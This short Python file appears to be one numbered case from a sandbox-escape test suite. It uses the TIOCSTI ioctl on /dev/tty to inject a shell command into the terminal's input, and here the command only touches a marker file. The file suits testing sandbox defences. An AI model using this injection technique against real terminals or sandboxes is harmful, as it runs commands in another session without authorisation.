"""Escape attempt 35: tiocsti terminal."""

# ruff: noqa  (an attack written to be run, not to be tidy)
import fcntl, termios, os

fd = os.open("/dev/tty", os.O_RDWR)
for c in "touch " + MARKER_DIR + "/tty\n":
    fcntl.ioctl(fd, termios.TIOCSTI, c)
